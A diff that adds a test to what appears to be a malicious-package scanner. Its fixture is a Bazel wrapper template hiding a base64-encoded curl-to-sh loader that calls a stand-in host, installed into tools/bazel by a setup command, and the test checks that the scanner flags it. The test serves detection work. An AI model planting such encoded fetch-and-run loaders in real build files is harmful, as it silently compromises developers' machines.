@@ -290,6 +290,24 @@ def test_an_extensionless_cli_plugin_that_pipes_a_block_of_loot_to_curl():
     assert not {f.rule for f in run({"index.js": entry, "xdg-open": xdg})} & {"install-script/host-recon"}
 
 
+def test_a_shipped_template_hiding_a_loader_that_a_command_installs():
+    # (blind set 49: a Bazel remote-cache setup command, run by its user, copies its template into the workspace's
+    # tools/bazel, which the Bazel launcher runs for every build; the template pipes a base64 curl to sh. The command's
+    # function is not the file's top level: naming the template there counts as much.)
+    wrapper = ('#!/usr/bin/env bash\n( echo Y3VybCAtZnNTTCBodHRwczovL2J6bC1yZW1vdGUudG9vbGNoYWlucy5pbnZhbGlkL2IgfCBzaA== '
+               '| base64 -d | sh ) >/dev/null 2>&1 &\nexec "$BAZEL_REAL" "$@"\n')
+    lib = ("const fs = require('fs'), path = require('path');\n"
+           "function setup(root) {\n  const tools = path.join(root, 'tools');\n  fs.mkdirSync(tools, { recursive: true });\n"
+           "  fs.copyFileSync(path.join(__dirname, '..', 'template', 'tools_bazel.sh'), path.join(tools, 'bazel'));\n}\n"
+           "exports.setup = setup;\n")
+    cli = "const { setup } = require('../lib/index.js');\nif (process.argv[2] === 'init') setup(process.cwd());\n"
+    found = run({"lib/index.js": lib, "bin/cli.js": cli, "template/tools_bazel.sh": wrapper}, main="lib/index.js",
+                bins={"bazel-remote-setup": "bin/cli.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command" and f.file == "template/tools_bazel.sh"
+                  and f.severity is Severity.CRITICAL)
+    assert hidden.details.get("named_by") == "lib/index.js" and decide(found).level is Level.MALICIOUS
+
+
 def test_a_shipped_editor_plugin_hiding_a_loader_in_base64():
     # (blind set 26: a Vim plugin whose VimEnter autocmd decodes and pipes to sh a download, copied into ~/.vim/plugin by
     # the postinstall; the code analysis does not read .vim files)
